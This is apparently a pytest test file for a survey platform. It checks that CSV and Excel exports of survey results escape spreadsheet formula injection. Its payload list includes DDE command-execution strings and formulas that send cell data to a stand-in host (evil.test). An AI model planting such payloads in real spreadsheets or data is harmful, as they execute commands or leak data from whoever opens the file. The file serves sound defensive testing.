"""No spreadsheet runs what somebody wrote."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
import sqlalchemy as sa

from participation.activities.models import Activity
from participation.platform.extensions import db
from participation.platform.i18n.text import Text
from participation.reports.csv import DANGEROUS
from surveys.domain.questionnaire import Questionnaire
from surveys.models import QuestionnaireVersion, Response

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.test?"&A1;"x")',
    '=WEBSERVICE("https://evil.test")',
    '+cmd|"/c x"!A1',
    "=IMPORTXML(A1)",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}A1",
    "-2+3+cmd",
    ';=1+1;"',
    ",=1+1,\n=2",
)
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
KINDS = {"csv": ";", "csv-rfc4180": ",", "xlsx": ""}


@pytest.fixture
def survey(town) -> str:
    """A survey in which titles, options and answers are formulas."""
    public_id = town.activities["closed"]
    activity = db.session.scalars(sa.select(Activity).filter_by(public_id=public_id)).one()
    words = iter(FORMULAS * 20)

    def formula() -> Text:
        return Text(dict.fromkeys(("fi", "sv", "en"), next(words)))

    activity.title = formula()
    activity.channels[0].name = formula()
    version = db.session.scalars(sa.select(QuestionnaireVersion).filter_by(survey_id=activity.id))
    found = version.one()
    questionnaire = Questionnaire.from_json(found.document)
    questionnaire = questionnaire.with_texts(lambda _address, _text: formula())
    found.document, found.checksum = questionnaire.to_json(), questionnaire.checksum()
    rows = db.session.scalars(sa.select(Response).filter_by(survey_id=activity.id)).all()
    for response, words_of_one in zip(rows, FORMULAS * 2, strict=False):
        other = {"name": words_of_one, "free": words_of_one[::-1] + words_of_one}
        response.answers = response.answers | other | {"area~other": words_of_one}
    db.session.commit()
    return public_id


def download(boss, survey, kind, values, language):
    place = f"/{language}/manage/a/{survey}/results/download"
    response = boss.send("POST", place, data={"kind": kind, "values": values})
    assert response.status_code == 200
    name = response.headers["Content-Disposition"]
    assert re.fullmatch(r"attachment; filename=\"?[a-z0-9.-]+\"?", name), name
    return response.data


@pytest.mark.parametrize("kind", ["csv", "csv-rfc4180"])
def test_no_cell_of_a_csv_file_begins_a_formula(boss, survey, kind):
    seen = 0
    for values, language in (("labels", "fi"), ("labels", "sv"), ("codes", "en")):
        words = download(boss, survey, kind, values, language).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(words, newline=""), delimiter=KINDS[kind]):
            for cell in row:
                assert not cell.startswith(DANGEROUS) or NUMBER.fullmatch(cell), repr(cell)
                seen += cell.startswith("'")
    assert seen > len(FORMULAS)


@pytest.mark.parametrize("values", ["labels", "codes"])
def test_no_cell_of_a_workbook_is_a_formula(boss, survey, values):
    content = download(boss, survey, "xlsx", values, "fi")
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for sheet in book for row in sheet for c in row if c.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    assert any(str(cell.value).startswith("=") for cell in cells)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert not [name for name in parts.namelist() if "externalLink" in name or "vba" in name]
        assert not [n for n in parts.namelist() if b"<f>" in parts.read(n)]
